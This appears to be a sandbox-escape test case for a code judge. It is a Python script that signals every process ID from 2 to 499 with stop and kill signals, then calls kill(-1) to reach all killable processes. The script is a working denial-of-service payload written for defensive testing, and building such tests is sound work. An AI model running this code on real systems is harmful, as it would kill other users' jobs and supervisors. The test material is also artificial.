# Group: processes
# Tries: stop, then kill, all that one may, oneself last: interpreters, launchers, supervisors.
# Idea: kill(-1) under a shared id took other jobs along on judges without ids per job.
# Outcome: it hits the user's own programs in this sandbox, which works on.
# Sandbox: own
# Ends: COMPLETED, SIGNALED, DEADLINE
# Deadline: 3
import os
import signal

from attack import held

held("it begins")
for number in (signal.SIGSTOP, signal.SIGCONT, signal.SIGHUP, signal.SIGTERM, signal.SIGKILL):
    for pid in range(2, 500):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.kill(-1, signal.SIGKILL)
